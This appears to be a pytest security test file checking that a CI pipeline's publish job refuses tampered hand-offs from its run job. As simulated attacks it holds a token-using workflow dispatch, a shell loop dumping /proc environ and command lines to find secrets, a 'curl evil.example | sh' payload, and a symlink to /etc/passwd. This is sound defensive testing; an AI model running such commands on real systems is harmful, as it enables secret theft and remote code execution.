"""A leg split in two jobs attacked as a node of the run job would: write with the token it
finds (a dispatch too), read every environment block and command line it can, and tamper with
what the run job hands off — each through the workflow simulation (the artifact uploaded and
downloaded by name), where the publish job refuses it, says why and lands nothing."""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable
from pathlib import Path

import pygit2
import pytest

from .kit import READ_TOKEN, TOKEN, Repo, git
from .test_pr_loop import GATED, sticky
from .test_two_jobs import RUN, opened, publish_job, rebundle, run_job

Make = Callable[[str], Repo]


def test_a_node_of_the_run_job_cannot_dispatch_a_workflow_with_the_token_it_finds(
    github: Make, tmp_path: Path
) -> None:
    gh = github(
        "name: pr\nnodes:\n  - id: attack\n    run: >-\n"
        "      curl -s -o /dev/null -w 'dispatch=%{http_code}\\n' -X POST"
        ' -H "Authorization: token $GITHUB_TOKEN" -d \'{"ref":"main","inputs":{"run-id":"x"}}\''
        ' "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/actions/workflows/omg-resume.yml/dispatches"\n'
        "    env: [GITHUB_TOKEN, GITHUB_API_URL, GITHUB_REPOSITORY]\n"
    )
    gh.push_pr(2, {"code.txt": "v1\n"})
    ran = run_job(gh, gh.pr_event("opened", 2), tmp_path / "up")
    assert ran.rc == 0, ran.stderr
    said = git(ran.clone, "show", f"omg/runs/{ran.outputs['run-id']}:artifacts/attack.out")
    assert "dispatch=403" in said
    assert gh.api.runs == []


def test_what_a_node_of_the_run_job_can_read_holds_no_write_token_and_no_model_key(
    github: Make, tmp_path: Path
) -> None:
    key = f"sk-ant-api03-{secrets.token_urlsafe(40)}"
    oauth = f"sk-ant-oat01-{secrets.token_urlsafe(40)}"
    dump = tmp_path / "dump.txt"
    gh = github(
        "name: pr\nnodes:\n  - id: look\n    run: >-\n"
        f"      {{ env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do"
        f' echo "== $f"; tr "\\\\0" "\\\\n" < "$f"; done; }} > {dump} 2>&1; echo looked\n'
    )
    gh.push_pr(2, {"code.txt": "v1\n"})
    secrets_held = {"ANTHROPIC_API_KEY": key, "CLAUDE_CODE_OAUTH_TOKEN": oauth}
    ran = gh.run(
        "pull_request", gh.pr_event("opened", 2), token=READ_TOKEN, run_id=RUN, process=True,
        command=("leg", "--hand-off", str(tmp_path / "up")), extra=secrets_held,
    )  # fmt: skip
    assert ran.rc == 0, ran.stderr
    seen = dump.read_text(errors="replace")
    assert "== /proc/" in seen and "PATH=" in seen  # it read what it could
    for name, value in [("the job's write token", TOKEN), *secrets_held.items()]:
        assert value not in seen, f"{name} is readable by a node of the run job"


def _extra_event(gh: Repo, ran_clone: Path, rid: str) -> None:
    """An event appended to the run's log on its branch, committed and bundled consistently."""
    repo = pygit2.Repository(str(ran_clone))
    branch = f"refs/heads/omg/runs/{rid}"
    tip = repo.references[branch].peel(pygit2.Commit)
    log = tip.tree["events.jsonl"].data
    last = json.loads(log.splitlines()[-1])
    forged = {**last, "seq": last["seq"] + 1, "event": "gate_decided", "node_id": "ok"}
    build = repo.TreeBuilder(tip.tree)
    blob = repo.create_blob(log + json.dumps(forged).encode() + b"\n")
    build.insert("events.jsonl", blob, pygit2.enums.FileMode.BLOB)
    sig = pygit2.Signature("omg", "omg@example.com")
    repo.create_commit(branch, sig, sig, "forged", build.write(), [tip.id])


def _foreign(up: Path) -> None:
    (up / "run.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")


def _symlink(down: Path) -> None:
    # the upload step stores what a link points at; a store (or a runner) that kept the link
    # would hand the publish job this: manifest.json pointing at a file of the runner
    (down / "manifest.json").unlink()
    (down / "manifest.json").symlink_to("/etc/passwd")


def _huge(down: Path) -> None:
    # 2 GB, sparse: no disk is spent, yet its size is what a reader would be handed
    with open(down / "objects.pack", "r+b") as fh:
        fh.truncate(2 * 1024**3)


#: Each tampering: what it does, where (up: the run job's output before the upload; down: the
#: publish job's download), and the reason the publish job gives.
TAMPERED = {
    "an extra event": ("record", None, None),
    "a foreign file": ("artifact", _foreign, None),
    "a symlink": ("artifact", None, _symlink),
    "a 2 GB file": ("size", None, _huge),
}


@pytest.mark.parametrize("what", list(TAMPERED))
def test_a_hand_off_tampered_between_the_jobs_is_refused_and_nothing_lands(
    github: Make, tmp_path: Path, what: str
) -> None:
    reason, up, down = TAMPERED[what]
    gh, out = github(GATED), tmp_path / "up"
    head, event, ran = opened(gh, out)
    rid = ran.outputs["run-id"]
    if reason == "record":
        manifest = json.loads((out / "manifest.json").read_text())
        _extra_event(gh, ran.clone, rid)
        rebundle(ran, out, manifest)
    if up is not None:
        up(out)
    done = publish_job(gh, event, out, rid, tamper=down)
    assert done.rc == 3, done.stderr
    assert f"was refused ({reason})" in done.stderr and "Traceback" not in done.stderr
    assert gh.run_branches() == [] and not [
        r for r in pygit2.Repository(str(gh.origin)).references if "/omg/work/" in r
    ]
    assert [s["state"] for s in gh.api.statuses[head]] == ["failure"]
    body = sticky(gh)  # what it names stands in code spans: inert in GitHub's UI
    assert "the leg's output was refused" in body and f"({reason})" in body
    if up is _foreign:
        assert "`run.sh`" in body
